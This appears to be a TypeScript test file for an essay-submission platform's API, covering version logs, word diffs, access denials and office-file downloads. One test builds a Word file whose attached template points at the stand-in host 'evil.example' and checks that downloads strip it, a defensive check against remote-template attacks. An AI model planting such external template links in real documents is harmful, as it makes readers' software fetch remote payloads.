import type {
  ComparedDrafts,
  ComparedVersions,
  VersionLog,
} from '@antecedent/contracts/insight/replay';
import { readZip } from '@antecedent/domain/office/zip/zip';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { partsOf, withParts } from '../../record/versions/testing/version-scenario.ts';
import { clientOf } from '../../record/wopi/testing/wopi-client.ts';
import { aWrittenAssignment, docx } from '../../record/wopi/testing/written-assignment.ts';
import { anInstructor, type TestUser } from '../../testing/factories.ts';
import { anAssistant, ask } from '../../testing/scenarios.ts';
import type { TestApp } from '../../testing/start-test-app.ts';
import { twoWritingSessions } from '../../testing/two-writing-sessions.ts';

let server: TestApp;
let instructor: TestUser;
let submissionId: string;
let fileId: string;
let scene: Awaited<ReturnType<typeof twoWritingSessions>>['scene'];

beforeAll(async () => {
  ({ server, scene, instructor, submissionId, fileId } = await twoWritingSessions());
});
afterAll(() => server.close());

describe('POST /api/classes/readsubmissionlogs', () => {
  it('gives every version as columns, the beginning included', async () => {
    const log = await ask<VersionLog>(
      server,
      instructor,
      `/classes/readsubmissionlogs?submissionId=${submissionId}`,
    );
    expect(log).toMatchObject({ fileId, first: 0, timeZone: 'UTC' });
    expect(log.title).toContain('Essay');
    expect(log.timestamps).toHaveLength(6);
    expect(log.new.slice(0, 4)).toEqual([0, 4, 2, 4]);
    expect(log.edited[4]).toBe(1);
    expect(log.active.slice(1, 4)).toEqual([20, 20, 0]);
    expect(log.think.slice(1, 4)).toEqual([0, 0, 120]);
    expect(log.bulk).toEqual([{ row: 5, words: 20 }]);
    expect(log.drafts).toMatchObject([
      { title: 'Draft 1', version: null },
      { title: 'Final Submission', version: null },
    ]);
  });
});

describe('POST /api/classes/textdiff', () => {
  const compare = (before: number, after: number, as = instructor) =>
    server.app.inject({
      method: 'POST',
      url: `/api/classes/textdiff?oldId=${fileId}.${before}&newId=${fileId}.${after}`,
      headers: server.as(as),
    });

  it('marks what changed in built, escaped HTML', async () => {
    const { html } = (await compare(3, 4)).json();
    expect(html).toContain('<ins class="edited">red</ins>');
    expect(html).toContain('&amp; &lt;sleeps&gt;');
    expect(html).not.toContain('<sleeps>');
  });

  it('marks new paragraphs as new', async () => {
    expect((await compare(4, 5)).json().html).toMatch(/<ins class="new at-once">copied0 /);
  });

  it('marks as many words as the versions count together', async () => {
    const log = await ask<VersionLog>(
      server,
      instructor,
      `/classes/readsubmissionlogs?submissionId=${submissionId}`,
    );
    for (const [before, after] of [
      [0, 1],
      [3, 4],
      [0, 5],
    ] as const) {
      const sum = (counts: readonly number[]) =>
        counts.slice(before + 1, after + 1).reduce((total, one) => total + one, 0);
      const { words } = (await compare(before, after)).json<ComparedVersions>();
      expect(words).toEqual({
        new: sum(log.new),
        edited: sum(log.edited),
        deleted: sum(log.deleted),
      });
    }
  });

  it('goes on where it ended when the file has grown', async () => {
    const own = await aWrittenAssignment(server);
    const client = await clientOf(server, own);
    await client.lock('A');
    const save = async (text: string) => {
      server.advance(20_000);
      expect((await client.put(docx(text), { 'x-wopi-lock': 'A' })).statusCode).toBe(200);
    };
    await save('One two.');
    const words = async (before: number, after: number) =>
      (
        await ask<ComparedVersions>(
          server,
          own.instructor,
          `/classes/textdiff?oldId=${own.fileId}.${before}&newId=${own.fileId}.${after}`,
        )
      ).words;
    expect(await words(0, 1)).toEqual({ new: 2, edited: 0, deleted: 0 });
    await save('One two three.');
    expect(await words(1, 2)).toEqual({ new: 1, edited: 0, deleted: 0 });
  });

  it('answers the same again', async () => {
    expect((await compare(0, 5)).json()).toEqual((await compare(0, 5)).json());
  });

  it.each([
    ['a version that does not exist', () => compare(0, 99)],
    ['another class’s instructor', async () => compare(0, 1, await anInstructor(server))],
    [
      'versions of two files',
      () =>
        server.app.inject({
          method: 'POST',
          url: `/api/classes/textdiff?oldId=${crypto.randomUUID()}.0&newId=${fileId}.1`,
          headers: server.as(instructor),
        }),
    ],
  ])('answers 404 to %s', async (_what, request) => {
    expect((await request()).statusCode).toBe(404);
  });
});

describe('POST /api/classes/draftdiff', () => {
  const path = (before: number, after: number) =>
    `/classes/draftdiff?oldId=${fileId}.${before}&newId=${fileId}.${after}`;
  const compare = (before: number, after: number) =>
    ask<ComparedDrafts>(server, instructor, path(before, after));
  const standing = (html: string) =>
    html
      .replaceAll('</p>', '\n')
      .replace(/<[^>]*>/g, '')
      .trimEnd();
  const escaped = (text: string) =>
    text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;');

  it('shows each version with its own words and marks what differs', async () => {
    const { before, after, words } = await compare(3, 5);
    expect(before).toContain('The quick <del class="edited">brown</del> fox');
    expect(after).toContain('The quick <ins class="edited">red</ins> fox');
    expect(words).toEqual({ new: 20, edited: 1, deleted: 0, moved: 0, given: 0 });
  });

  it('shows the stored text of every version on its side', async () => {
    const { versions } = server.services;
    for (const [older, newer] of [
      [0, 5],
      [2, 4],
      [3, 5],
      [5, 1],
    ] as const) {
      const { before, after } = await compare(older, newer);
      expect(standing(before)).toBe(escaped(await versions.loadText(fileId, older)));
      expect(standing(after)).toBe(escaped(await versions.loadText(fileId, newer)));
    }
  });

  it('links a moved passage by its number', async () => {
    const own = await aWrittenAssignment(server);
    const [one, two] = [
      'The first passage has quite a few words.',
      'Another one stands below it and says more about the town.',
    ];
    const client = await clientOf(server, own);
    await client.lock('A');
    for (const text of [docx(one, two), docx(two, one)]) {
      expect((await client.put(text, { 'x-wopi-lock': 'A' })).statusCode).toBe(200);
    }
    const url = `/classes/draftdiff?oldId=${own.fileId}.1&newId=${own.fileId}.2`;
    const moved = await ask<ComparedDrafts>(server, own.instructor, url);
    expect(moved).toMatchObject({ passages: 1, rows: 3 });
    // What stayed is in one row, and what moved in one of its own on each side.
    expect(moved.before).toMatch(/data-row="1"><span class="moved.*data-row="2">Another one/);
    expect(moved.after).toMatch(/data-row="2">Another one.*data-row="3"><span class="moved/);
    for (const side of [moved.before, moved.after])
      expect(side).toMatch(/<span class="moved passage-1">The first passage has quite a few words/);
  });

  it('answers 404 to those who may not read it', async () => {
    const response = await server.app.inject({
      method: 'POST',
      url: `/api${path(0, 1)}`,
      headers: server.as(await anInstructor(server)),
    });
    expect(response.statusCode).toBe(404);
  });
});

describe('GET /api/submission/version/:versionId', () => {
  it('returns the office file of any version under a descriptive name', async () => {
    const response = await server.app.inject({
      url: `/api/submission/version/${fileId}.2`,
      headers: server.as(await anAssistant(server, scene.course)),
    });
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toContain('wordprocessingml.document');
    expect(response.headers['content-disposition']).toContain('Essay - version 2.docx');
    expect(readZip(response.rawPayload).byName.has('word/document.xml')).toBe(true);
    const stored = await server.services.versions.loadVersion(fileId, 2);
    expect(Buffer.compare(response.rawPayload, Buffer.from(stored))).toBe(0);
  });

  it('loads nothing from elsewhere when its reader opens it, and stays stored as it was', async () => {
    const own = await aWrittenAssignment(server);
    const settings = 'word/_rels/settings.xml.rels';
    const template = 'http://evil.example/t.dotm';
    const bytes = withParts(docx('One'), {
      [settings]: `<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="${template}" TargetMode="External"/></Relationships>`,
    });
    const client = await clientOf(server, own);
    await client.lock('A');
    expect((await client.put(bytes, { 'x-wopi-lock': 'A' })).statusCode).toBe(200);
    const download = async (person: TestUser) => {
      const url = `/api/submission/version/${own.fileId}.1`;
      const { rawPayload } = await server.app.inject({ url, headers: server.as(person) });
      return Buffer.from(partsOf(rawPayload)[settings] ?? '', 'base64').toString();
    };
    for (const reader of [own.instructor, own.assistant]) {
      const relationships = await download(reader);
      expect(relationships).toContain('Target="about:blank"');
      expect(relationships).not.toContain(template);
    }
    expect(partsOf(await server.services.versions.loadVersion(own.fileId, 1))).toEqual(
      partsOf(bytes),
    );
  });

  it('answers 404 to those who may not read it', async () => {
    const response = await server.app.inject({
      url: `/api/submission/version/${fileId}.2`,
      headers: server.as(await anInstructor(server)),
    });
    expect(response.statusCode).toBe(404);
  });
});
